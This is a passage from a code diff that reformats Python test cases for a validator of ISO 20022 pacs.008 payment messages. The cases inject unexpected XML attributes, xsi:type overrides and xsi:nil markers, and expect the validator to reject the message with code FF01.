+            b"<IntrBkSttlmAmt", b"<ChrgBr>SHAR</ChrgBr>\n<IntrBkSttlmAmt", 1
+        )
+    )(pacs008()),
+)
 case("struct-unknown-attribute", FF01, lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr evil="1">', 1))
 case("struct-xml-lang-attribute", FF01, lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr xml:lang="en">', 1))
-case("struct-xsi-type-override", FF01,
-     lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:anyType" xmlns:xs="http://www.w3.org/2001/XMLSchema">', 1))
-case("struct-xsi-nil", FF01,
-     lambda e: pacs008(msg_id=b"").replace(b"<MsgId>", b'<MsgId xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true">', 1))
+case(
+    "struct-xsi-type-override",
+    FF01,
+    lambda e: pacs008().replace(
+        b"<GrpHdr>",
+        b'<GrpHdr xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:anyType" xmlns:xs="http://www.w3.org/2001/XMLSchema">',
+        1,
+    ),
+)
+case(
+    "struct-xsi-nil",
+    FF01,
+    lambda e: pacs008(msg_id=b"").replace(
+        b"<MsgId>", b'<MsgId xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true">', 1
+    ),
+)
 case("struct-xml-id-attribute", FF01, lambda e: pacs008().replace(b"<GrpHdr>", b'<GrpHdr xml:id="a">', 1))
 case("bah-valid", "ACSC", lambda e: bah(pacs008()))
 case("bah-bizmsgidr-mismatch", FF01, lambda e: bah(pacs008(), biz_msg_idr="OTHER-ID"))
